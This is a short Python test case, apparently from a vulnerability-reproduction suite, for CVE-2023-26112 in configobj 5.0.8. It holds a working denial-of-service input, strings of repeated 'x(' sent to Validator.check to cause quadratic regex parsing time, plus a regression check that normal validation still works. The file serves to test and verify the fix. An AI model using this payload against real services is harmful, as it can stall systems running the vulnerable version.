# /// case
# id = "CVE-2023-26112"
# package = "configobj"
# vulnerable = "5.0.8"
# fixed = "5.0.9"
# what = "a check with many opening brackets takes quadratic time to parse"
# shape = "a regular expression held by a class"
# requires = ["six==1.16.0"]
# modules = ["configobj", "configobj.validate"]
# only = ["configobj.validate:Validator._func_re"]
# ///
"""The name before the bracket could contain brackets, so every one of them was tried as the first."""

import itertools
from contextlib import suppress

from configobj.validate import ValidateError, Validator
from slow import SIZES, blows_up

NUMBERS = itertools.count()
VALIDATOR = Validator()


def _check(size: int) -> None:
    with suppress(ValidateError):
        VALIDATOR.check("x(" * size + f"{next(NUMBERS)}", "value")  # another each time, as what was parsed is kept


def exploit() -> bool:
    return blows_up(_check, SIZES)


def regression() -> None:
    assert VALIDATOR.check("integer(0, 9)", "7") == 7
    assert VALIDATOR.check("option('a', 'b')", "b") == "b"
    try:
        VALIDATOR.check("integer(0, 9)", "70")
    except ValidateError:
        return
    raise AssertionError("70 was taken for a number up to 9")
